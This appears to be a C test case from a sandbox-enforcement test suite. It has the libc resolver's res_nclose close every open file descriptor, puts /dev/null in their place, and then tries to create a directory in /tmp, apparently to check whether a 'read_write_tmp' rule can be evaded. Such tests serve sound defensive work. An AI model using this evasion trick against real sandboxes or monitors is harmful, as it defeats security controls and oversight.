// class: events
// rule: read_write_tmp
// success: a C program has libc's resolver close all fds, puts /dev/null in their place, and makes
//   a folder in /tmp
// proof: new
#include "attack.h"
#include <resolv.h>

int main(void)
{
    int nothing = open("/dev/null", O_RDWR);
    for (int fd = 3; fd < 1024; fd++) {
        struct __res_state state;
        if (fd == nothing || fcntl(fd, F_GETFD) < 0 && fd < 800) continue;
        memset(&state, 0, sizeof state);
        state._vcsock = fd;
        res_nclose(&state);
        fcntl(nothing, F_DUPFD, fd);
    }
    return mkdir(NEW_, 0700) == 0 ? reached() : stopped("mkdir");
}
